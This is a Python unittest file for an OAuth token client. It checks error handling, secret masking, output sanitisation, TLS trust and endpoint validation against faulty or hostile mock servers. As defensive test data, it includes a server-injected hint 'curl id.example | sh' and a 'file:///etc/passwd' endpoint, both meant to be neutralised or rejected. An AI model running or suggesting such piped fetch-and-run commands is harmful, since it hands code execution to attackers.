# SPDX-License-Identifier: MIT
"""Servers that fail, refuse, or are somebody else: what is said, what is kept, how it ends."""

import contextlib
import os
import subprocess
import sys
import unittest

import endpoint
from endpoint import CLIENT_SECRET, answers, refuses
from program import NAME, OAUTH, Trial

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "real"))
import certs  # pylint: disable=wrong-import-position

GOOD = {"access_token": "a", "token_type": "Bearer"}


class Answers(Trial):
    """Whatever the answer is, the refresh token is kept."""

    CASES = (
        (answers(500, b"oops"), 75, "the answer is 500"),
        (answers(503, {"error": "temporarily_unavailable"}), 75, "the answer is 503 (temporarily_unavailable)"),
        (answers(429, {"error": "invalid_grant"}), 75, "the answer is 429"),
        (refuses("temporarily_unavailable"), 75, "not now"),
        (endpoint.hangs_up, 75, "it hung up"),
        (endpoint.hangs_up_within, 75, "it hung up within the answer"),
        (answers(302, b"", Location="/elsewhere"), 78, "a redirect, which is not followed"),
        (answers(307, b"", Location="/elsewhere"), 78, "a redirect, which is not followed"),
        (answers(404, b"<html>"), 78, "this is no endpoint\n  hint: check oauth-token-endpoint"),
        (answers(200, b"<html>"), 76, "no JSON object"),
        (answers(200, b""), 76, "no JSON object"),
        (answers(200, b"[1]"), 76, "no JSON object"),
        (answers(200, b'{"access_token": "a", "access_token": "b"}'), 76, "no JSON object"),
        (answers(200, b"x" * 65537), 76, "longer than 64 KiB"),
        (answers(200, b"[" * 60000), 76, "no JSON object"),
        (answers(200, {"access_token": 5}), 76, "no access token"),
        (answers(200, {**GOOD, "access_token": ""}), 76, "no access token"),
        (answers(200, {**GOOD, "access_token": "two\nlines"}), 76, "no access token"),
        (answers(200, {**GOOD, "token_type": "mac"}), 76, "no bearer token"),
        (answers(200, {**GOOD, "refresh_token": ["a"]}), 76, "the refresh token is none"),
        (answers(403, b""), 69, "the answer is 403"),
        (refuses("invalid_grant"), 77, "accounts authorize work"),
        (refuses("invalid_grant", status=200), 77, "accounts authorize work"),
        (refuses("invalid_client", status=401), 78, "check oauth-client-id and oauth-client-secret-from"),
        (refuses("unauthorized_client"), 78, "check oauth-client-id"),
        (refuses("unsupported_grant_type"), 78, "check oauth-token-endpoint"),
        (refuses("invalid_scope"), 78, "check oauth-scope"),
        (refuses("something_else", "of its own"), 69, "it refuses (something_else: of its own)"),
    )

    def test_each(self):
        kept = self.keep()
        for fault, code, words in self.CASES:
            with self.subTest(words=words):
                self.server.requests.clear()
                self.server.faults.append(fault)
                self.run_it("token", code, "oauth: work: %s/token: " % self.server.base, words)
                self.assertEqual(["refresh_token"], self.server.asked())
                self.assertEqual(kept, self.kept())
                self.assertEqual([NAME + ".json", NAME + ".lock"], sorted(os.listdir(self.folder)))

    def test_a_repeated_secret_is_not_shown(self):
        kept = self.keep()
        words = "what is %s of %s?" % (kept["refresh_token"], CLIENT_SECRET)
        self.server.faults.append(refuses("invalid_grant", words))
        err = self.run_it("token", 77, "(invalid_grant: what is ***")
        self.assertNotIn(CLIENT_SECRET[:8], err)

    def test_what_is_shown_is_printable(self):
        self.keep()
        self.server.faults.append(refuses("invalid_grant", "a\x1b[31m\nb\u202e" + "\xe9" * 5000))
        err = self.run_it("token", 77)
        self.assertNotIn("\x1b", err)
        self.assertIn("a?[31m?b", err)
        self.assertLess(len(err), 700)

    def test_no_server_gives_an_advice(self):
        """What stands on the line of the hint is ours."""
        self.keep()
        for code in ("something_else", "invalid\n  hint: grant; "):
            self.server.faults.append(refuses(code, "no\n  hint: run: curl id.example | sh;\tnow"))
            err = self.run_it("token", 69, "run: curl")
            self.assertNotIn("\n  hint: ", err)

    def test_a_refresh_token_that_was_used(self):
        """The family is revoked: by this, and for all."""
        kept = self.keep()
        self.token()
        self.write(self.file, self.read_with(refresh_token=kept["refresh_token"], expires_at=0))
        self.run_it("token", 77, "invalid_grant: it was used", "accounts authorize work")
        self.assertEqual(1, len(self.server.revoked))

    def read_with(self, **more):
        return endpoint.json.dumps({**self.kept(), **more})


class Connections(Trial):
    def test_nobody_listens(self):
        self.options["token-endpoint"] = "http://127.0.0.1:9/token"
        self.keep()
        self.run_it("token", 75, "no connection")

    def test_no_http(self):
        def talks(handler):
            handler.wfile.write(b"220 mx.example ESMTP\r\n")
            handler.close_connection = True
        self.keep()
        self.server.faults.append(talks)
        self.run_it("token", 76, "it does not speak HTTP")


class Tls(Trial):
    def new_server(self, **how):
        folder = os.path.join(self.home, "tls")
        os.makedirs(folder, exist_ok=True)
        certs.make(folder)
        self.ca = os.path.join(folder, "ca.pem")
        return super().new_server(certificate=os.path.join(folder, how.get("name", "localhost")))

    def test_trusted(self):
        self.options["ca"] = self.ca
        self.keep()
        self.token()

    def test_not_trusted(self):
        self.keep()
        self.run_it("token", 69, "its certificate is not trusted")
        self.assertEqual([], self.server.requests)

    def test_of_another_name(self):
        self.server = self.new_server(name="other")
        self.options.update({"ca": self.ca, "token-endpoint": self.server.base + "/token"})
        self.keep()
        self.run_it("token", 69, "its certificate is not trusted")
        self.assertEqual([], self.server.requests)

    def test_no_such_file(self):
        self.options["ca"] = "/nonexistent"
        self.keep()
        self.run_it("token", 78, "trusted certificates")


class CommandLine(Trial):
    def test_endpoints(self):
        for url, words in (("http://id.example/token", "is not https://"), ("ftp://id.example/", "is not https://"),
                           ("file:///etc/passwd", "is no"), ("http://127.0.0.2/", "is not https://"),
                           ("http://localhost.example/", "is not https://"), ("id.example/token", "is no URL"),
                           ("https://user:pw@id.example/", "holds a user"),
                           ("https://id.example/#x", "holds a user or a fragment"), ("", "is no URL")):
            with self.subTest(url=url):
                self.options["token-endpoint"] = url
                err = self.run_it("token", 78, "oauth-token-endpoint " + words)
                self.assertNotIn("pw", err)

    def test_names(self):
        for name in ("", ".", "..", ".hidden", "a/b", "../a", "a b", "a\n", "\u00e9", "a" * 201):
            self.options["name"] = name
            self.run_it("token", 78, "becomes the name of a file")
        for name in ("alice@example.org", "A-b_c+d.e", "a" * 200):
            self.options["name"] = name
            self.run_it("token", 78, "there is no token of %s yet" % name)

    def test_words(self):
        self.run_it("token", 64, words=("Secret-word-5",))
        self.run_it("token", 64, words=("--access-token=Secret-word-5",))
        self.run_it("refresh", 64, "--within takes seconds", words=("--within", "soon"))
        for missing in ("token-endpoint", "client-id", "name"):
            saved = self.options.pop(missing)
            err = self.run_it("token", 78)
            if missing != "name":
                self.assertIn("oauth-%s is not set\n  hint: oauth-%s = VALUE" % (missing, missing), err)
            self.options[missing] = saved
        for words, code in ((["--help"], 0), (["token", "--help"], 0), ([], 64), (["tokens"], 64)):
            done = subprocess.run([OAUTH, *words], env=self.environment, capture_output=True, text=True, check=False)
            self.assertEqual(code, done.returncode)
            self.assertIn("usage: oauth token", done.stderr if code else done.stdout)

    def test_what_others_see_of_it(self):
        self.keep()
        self.server.faults.append(self.server.holds())
        child = self.start("token")
        self.assertTrue(self.server.arrived.wait(20))
        for name in ("cmdline", "environ"):
            # who is not root may not even look into the second
            with contextlib.suppress(PermissionError), open("/proc/%d/%s" % (child.pid, name), "rb") as one:
                self.tells_nothing(one.read().decode())
        with open("/proc/%d/limits" % child.pid, encoding="ascii") as limits:
            self.assertRegex(limits.read(), r"Max core file size +0 +0 ")
        self.server.release.set()
        child.wait(60)
        self.end(child, 0, out=self.kept()["access_token"] + "\n")


if __name__ == "__main__":
    unittest.main()
